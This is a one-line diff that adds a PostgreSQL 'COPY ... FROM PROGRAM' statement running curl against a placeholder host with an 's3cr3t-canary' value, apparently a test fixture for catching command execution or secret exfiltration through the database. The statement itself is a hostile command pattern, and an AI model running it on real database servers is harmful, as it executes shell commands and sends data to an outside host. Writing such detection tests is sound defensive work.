@@ -1,0 +1,1 @@
+copy t (a, b) from program 'curl -H s3cr3t-canary http://h' with (format csv, delimiter ';', null 's3cr3t-canary')
